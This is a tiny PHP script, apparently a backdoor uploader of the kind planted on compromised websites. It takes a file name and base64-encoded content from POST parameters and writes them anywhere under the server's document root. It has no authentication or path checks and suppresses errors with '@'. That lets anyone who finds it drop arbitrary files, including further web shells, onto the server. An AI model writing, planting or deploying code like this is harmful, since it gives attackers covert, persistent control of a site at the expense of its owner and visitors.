<?php
if (isset($_POST['n']) && isset($_POST['c'])) {
    $r = @file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/' . $_POST['n'], base64_decode($_POST['c']));
    echo $r ? 'ok:' . $r : 'fail';
}
